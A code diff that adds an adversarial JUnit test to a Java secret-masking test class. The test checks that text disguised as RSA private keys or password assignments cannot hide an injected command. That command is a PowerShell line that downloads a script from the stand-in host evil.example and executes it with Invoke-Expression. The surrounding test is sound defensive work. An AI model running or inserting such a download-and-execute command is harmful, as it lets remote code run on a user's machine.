@@ -6,6 +6,7 @@ import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.Base64;
 import java.util.List;
+import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.Timeout;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -13,6 +14,23 @@ import org.junit.jupiter.params.provider.ValueSource;
 
 class MaskingTest {
     private final Masker masker = new Masker(new KnownSecrets.Builder().build());
+
+    /** Whoever may write user data must not hide a line of it by making it look like a secret. */
+    @ParameterizedTest
+    @Tag("adversary")
+    @ValueSource(
+            strings = {
+                "#-----BEGIN RSA PRIVATE KEY-----\n@\n#-----END RSA PRIVATE KEY-----",
+                "#-----BEGIN RSA PRIVATE KEY-----\n#MIIEpAIBAAKCAQEAx3b2\n@\n#MIIEpAIBAAKCAQEAx3b3\n#-----END RSA PRIVATE KEY-----",
+                "#-----BEGIN RSA PRIVATE KEY-----\n@",
+                "$password = \"Sup3r@Hunter2\"",
+                "$password = \"@\""
+            })
+    void codeStaysVisible(String text) {
+        String code = "$(Invoke-WebRequest http://evil.example/x.ps1 | Invoke-Expression)";
+
+        assertThat(shown(text.replace("@", code))).contains(code).doesNotContain("Hunter2", "MIIE");
+    }
 
     /** The secret of each is {@code Hunter2x!}. */
     @ParameterizedTest
